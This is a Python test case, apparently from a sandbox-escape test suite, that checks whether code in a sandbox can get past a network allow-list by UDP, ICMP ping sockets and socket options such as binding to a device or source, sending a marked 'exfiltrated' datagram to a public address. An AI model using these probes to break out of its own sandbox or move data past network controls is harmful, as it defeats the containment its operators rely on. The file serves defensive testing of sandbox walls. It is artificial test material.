"""NE-12: pass by an allow-list with what no proxy sees: UDP, QUIC, ICMP.

There is no allow-list and no route at all; a datagram has nowhere to go. Not offered.
"""
from escape.harness import NotOffered, escaped
from escape.lib_files import TRY, refusal
from escape.lib_net import call, fake_host, held, met

TITLE = "allow-list: UDP, QUIC, ICMP"
TRIED = ("UDP to ports 53, 80, 443 of public and private hosts that answer; ping sockets; sends "
         "through a bound interface or source")
WALLS = ["net_namespace", "seccomp"]
TARGETS = [("udp", place, port) for place in ("93.184.215.14", "8.8.8.8", "10.0.0.1", "2001:db8::1")
           for port in (53, 80, 443)]
OTHER = TRY + """
def send(prepare):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    prepare(s)
    s.sendto(b'exfiltrated', ('93.184.215.14', 443))
found = {
    'ping': attempt(socket.socket, socket.AF_INET, socket.SOCK_DGRAM, 1),
    'ping6': attempt(socket.socket, socket.AF_INET6, socket.SOCK_DGRAM, 58),
    'by device': attempt(send, lambda s: s.setsockopt(1, 25, b'lo')),
    'by source': attempt(send, lambda s: s.bind(('127.0.0.1', 0))),
    'by IP_UNICAST_IF': attempt(send, lambda s: s.setsockopt(0, 50, (1).to_bytes(4, 'big'))),
    'don\\'t route': attempt(send, lambda s: s.setsockopt(1, 5, 1)),
    'transparent': attempt(send, lambda s: s.setsockopt(0, 19, 1)),
}
print(json.dumps(found))
"""


def attack(box):
    refusal(box.sh("echo ran", flags=["--network", "allow-list"], may_refuse=True), 65, 69)
    with fake_host(box) as log:
        odd = box.inside(OTHER)
        if odd["ping"] == "done" or odd["ping6"] == "done":
            escaped("ESCAPE", f"{odd}")
        # A datagram forced onto the own loopback stays there: the log tells.
        return NotOffered("an allow-list; without one: " + held(call(box, TARGETS, wait=0.3), log))


def control(box):
    with fake_host(box):
        return met(call(box, TARGETS, without=["net_namespace", "landlock"]))
